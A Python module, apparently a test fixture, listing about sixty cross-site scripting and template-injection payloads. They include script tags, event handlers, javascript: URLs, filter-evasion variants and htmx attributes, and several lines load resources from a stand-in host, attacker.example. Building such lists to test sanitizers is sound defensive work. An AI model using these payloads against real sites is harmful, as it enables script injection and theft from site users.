"""What somebody might write in the hope that a page runs it. Each would show a box if it ran, or ask a far host."""

STRUCK = "alert(1)"
BACKWARDS = "\u202e"  # turns the direction of writing, so that what is read is not what is there

# One to a line, no two of a kind; %s is what would be run.
WRITTEN = r"""
<script>%s</script>
<script>%s//
<ScRiPt >%s</sCrIpT>
<scr<script>ipt>%s</scr</script>ipt>
"><script>%s</script>
'><script>%s</script>
</textarea><script>%s</script>
</title><script>%s</script>
</style><script>%s</script>
--><script>%s</script>
<![CDATA[><script>%s</script>]]>
</p></main></body><script>%s</script>
<script src=data:text/javascript,%s></script>
<script src=//attacker.example/x.js></script>
<img src=x onerror=%s>
<img/src/onerror=%s>
<img src=x onerror="%s">
"><img src=x onerror=%s>
" onfocus=%s autofocus x="
' onmouseover=%s x='
"autofocus onfocus="%s
<svg onload=%s>
<svg/onload=%s>
<svg><animate onbegin=%s attributeName=x dur=1s>
<svg><script>%s</script></svg>
<svg><use href=data:image/svg+xml,<svg/onload=%s>#x>
<math><mtext><table><mglyph><style><img src=x onerror=%s>
<noscript><p title="</noscript><img src=x onerror=%s>">
<template><script>%s</script></template>
<body onload=%s>
<input autofocus onfocus=%s>
<select autofocus onfocus=%s>
<textarea autofocus onfocus=%s>
<details open ontoggle=%s>
<video><source onerror=%s>
<audio src=x onerror=%s>
<marquee onstart=%s>
<object data=javascript:%s>
<embed src=javascript:%s>
<iframe src=javascript:%s>
<iframe srcdoc="<script>parent.%s</script>">
<a href=javascript:%s autofocus onfocus=%s>x</a>
<form action=javascript:%s><button autofocus onfocus=%s>x
<meta http-equiv=refresh content="0;url=javascript:%s">
<meta http-equiv=refresh content="0;url=//attacker.example">
<base href=//attacker.example/>
<link rel=stylesheet href=//attacker.example/x.css>
<style>@import '//attacker.example/x.css';</style>
<p style="background:url(//attacker.example/x)">
<img src=//attacker.example/x.png>
<div hx-get=//attacker.example/ hx-trigger=load></div>
<div hx-on:load=%s hx-trigger=load hx-get=/help></div>
<div hx-get=/help hx-trigger="load[%s]"></div>
<div hx-vals="js:{x:%s}" hx-get=/help hx-trigger=load></div>
<div hx-swap-oob="innerHTML:#main">%s</div>
<hx-partial hx-target="#main"><script>%s</script></hx-partial>
{{ 7 * 7 }}{%% if 1 %%}%s{%% endif %%}
${%s}#{%s}<%%= %s %%>
\u003cscript\u003e%s\u003c/script\u003e
&lt;script&gt;%s&lt;/script&gt;&#60;img src=x onerror=%s&#62;
{backwards}<script>%s</script>
＜script＞%s＜/script＞
"""

PAYLOADS = tuple(
    line.replace("%s", STRUCK).replace("%%", "%").replace("{backwards}", BACKWARDS)
    for line in WRITTEN.strip("\n").splitlines()
)
